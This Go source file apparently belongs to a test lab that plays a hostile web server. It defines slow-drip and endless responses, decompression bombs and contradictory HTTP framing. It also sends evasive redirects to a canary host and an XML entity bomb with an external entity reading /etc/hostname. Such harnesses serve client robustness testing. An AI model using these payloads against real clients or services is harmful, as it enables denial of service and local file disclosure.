package lab

import (
	"bytes"
	"fmt"
	"strings"
	"sync"
	"time"
)

const webHead = "HTTP/1.1 200 OK\r\nServer: webserver\r\nContent-Type: text/html\r\n"

// hostileWeb are the kinds that begin by reading an HTTP request.
func hostileWeb() []hostileKind {
	asked := func(act func(assault, request)) func(assault) {
		return func(a assault) {
			if r, ok := a.request(); ok {
				act(a, r)
			}
		}
	}
	wide := sync.OnceValue(func() []byte { return bytes.Repeat(compress(make([]byte, 1<<20)), 1<<10) })
	const block = "<p>nothing to see, and no end of it</p>\n"
	return []hostileKind{
		{"endless-body", "a body without a length that never ends", asked(func(a assault, _ request) {
			a.send(webHead + "\r\n<html><body>")
			a.flood(strings.Repeat(block, 400))
		})},
		{"huge-length", "a body of a terabyte, announced and sent", asked(func(a assault, _ request) {
			a.send(webHead + "Content-Length: 1099511627776\r\n\r\n<html><body>")
			a.flood(strings.Repeat(block, 400))
		})},
		{"drip-head", "header lines that come one byte a second", asked(func(a assault, _ request) {
			a.drip(webHead, time.Second)
		})},
		{"drip-body", "a body that comes one byte a fifth of a second", asked(func(a assault, _ request) {
			a.send(webHead + "Content-Length: 100000\r\n\r\n")
			a.drip(block, 200*time.Millisecond)
		})},
		{"many-headers", "ten thousand header lines", asked(func(a assault, _ request) {
			var head strings.Builder
			for i := range 10_000 {
				fmt.Fprintf(&head, "X-Filler-%d: %d\r\n", i, i)
			}
			a.pour(webHead + head.String() + "Content-Length: 2\r\n\r\nok")
		})},
		{"endless-headers", "header lines that never end", asked(func(a assault, _ request) {
			a.send(webHead)
			a.flood(strings.Repeat("X-Filler: 0123456789abcdef\r\n", 600))
		})},
		{"long-header", "one header line of nine megabytes", asked(func(a assault, _ request) {
			a.send(webHead + "X-Long: ")
			a.pour(strings.Repeat("a", 9<<20) + "\r\nContent-Length: 2\r\n\r\nok")
		})},
		{"interim-flood", "an endless row of 100 Continue", asked(func(a assault, _ request) {
			a.flood(strings.Repeat("HTTP/1.1 100 Continue\r\n\r\n", 600))
		})},
		{"gzip-bomb", "a gigabyte of zeros, compressed twice", asked(func(a assault, _ request) {
			bomb := compress(wide())
			a.pour(webHead + fmt.Sprintf("Content-Encoding: gzip, gzip\r\nContent-Length: %d\r\n\r\n", len(bomb)) + string(bomb))
		})},
		{"gzip-bomb-wide", "a gigabyte of zeros, compressed to one megabyte", asked(func(a assault, _ request) {
			bomb := wide()
			a.pour(webHead + fmt.Sprintf("Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n", len(bomb)) + string(bomb))
		})},
		{"framing-lies", "lengths that contradict themselves, another one each time", asked(framingLies)},
		{"redirect-out", "redirects to another address, spelt differently each time", asked(redirectOut)},
		{"reset-in-answer", "a reset in the middle of every answer", asked(func(a assault, _ request) {
			a.send(webHead + "Content-Length: 4096\r\n\r\n<html><head><title>Hik")
			a.pause(20 * time.Millisecond) // so that the peer reads the beginning
			a.c.abort()
		})},
		{"xml-depth", "XML that opens a million elements and closes none", asked(func(a assault, _ request) {
			a.send("HTTP/1.1 200 OK\r\nContent-Type: application/soap+xml\r\n\r\n<?xml version=\"1.0\"?><E:Envelope xmlns:E=\"http://www.w3.org/2003/05/soap-envelope\"><E:Body>")
			a.pour(strings.Repeat("<a>", 1_000_000))
		})},
		{"xml-entities", "XML with a document type whose entities multiply", asked(func(a assault, _ request) {
			a.send("HTTP/1.1 200 OK\r\nContent-Type: application/soap+xml\r\nConnection: close\r\n\r\n" + entityBomb())
		})},
		{"overloaded", "503 with Retry-After to everything", asked(func(a assault, _ request) {
			a.send("HTTP/1.1 503 Service Unavailable\r\nServer: webserver\r\nRetry-After: 120\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
		})},
		{"goes-silent", "one answer, and on later connections none", asked(func(a assault, _ request) {
			if a.turn > 0 {
				a.hold()
				return
			}
			a.send(webHead + "Content-Length: 46\r\nConnection: close\r\n\r\n<html><head><title>index</title></head></html>")
		})},
	}
}

func framingLies(a assault, _ request) {
	lies := []string{
		"Content-Length: -1\r\n\r\n<html>",
		"Transfer-Encoding: chunked\r\n\r\n8000000000000000\r\n<html>",
		"Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n6\r\n<html>\r\n0\r\n\r\n",
		"Content-Length: 6\r\nContent-Length: 60000\r\n\r\n<html>",
		"Transfer-Encoding: chunked\r\n\r\n6;" + strings.Repeat("x", 100_000) + "\r\n<html>\r\n0\r\n\r\n",
		"Content-Length: 0x6\r\n\r\n<html>",
	}
	a.send(webHead + lies[a.turn%len(lies)])
}

// redirectOut points at the canary in every way that clients are known to
// follow.
func redirectOut(a assault, _ request) {
	host, port := a.v["canary"], a.v["port:web"]
	at := "//" + host + ":" + port
	spellings := []string{
		"http:" + at + "/doc/page/login.asp", at + "/", "http://127.0.0.1@" + host + ":" + port + "/",
		"\\\\" + host + ":" + port + "\\", "http://[::ffff:" + host + "]:" + port + "/", "rtsp:" + at + "/", "HTTP:" + at,
	}
	to := spellings[a.turn%len(spellings)]
	body := fmt.Sprintf(`<html><head><meta http-equiv="refresh" content="0; URL=%[1]s"><base href="%[1]s">`+
		`<link rel="icon" href="http:%[2]s/favicon.ico"></head><frameset><frame src="http:%[2]s/"></frameset>`+
		`<script>window.location = "%[1]s"</script></html>`, to, at)
	a.send(fmt.Sprintf("HTTP/1.1 302 Found\r\nLocation: %[1]s\r\nContent-Location: %[1]s\r\nRefresh: 0; url=%[1]s\r\n"+
		"Content-Type: text/html\r\nContent-Length: %[2]d\r\nConnection: close\r\n\r\n%[3]s", to, len(body), body))
}

// entityBomb is the well-known document of ten levels of ten entities each.
func entityBomb() string {
	var out strings.Builder
	out.WriteString("<?xml version=\"1.0\"?>\n<!DOCTYPE b [\n<!ENTITY e0 \"camera\">\n")
	for i := range 9 {
		fmt.Fprintf(&out, "<!ENTITY e%d \"%s\">\n", i+1, strings.Repeat(fmt.Sprintf("&e%d;", i), 10))
	}
	out.WriteString("<!ENTITY file SYSTEM \"file:///etc/hostname\">\n]>\n")
	out.WriteString(`<E:Envelope xmlns:E="http://www.w3.org/2003/05/soap-envelope"><E:Body><b>&e9;&file;</b></E:Body></E:Envelope>`)
	return out.String()
}
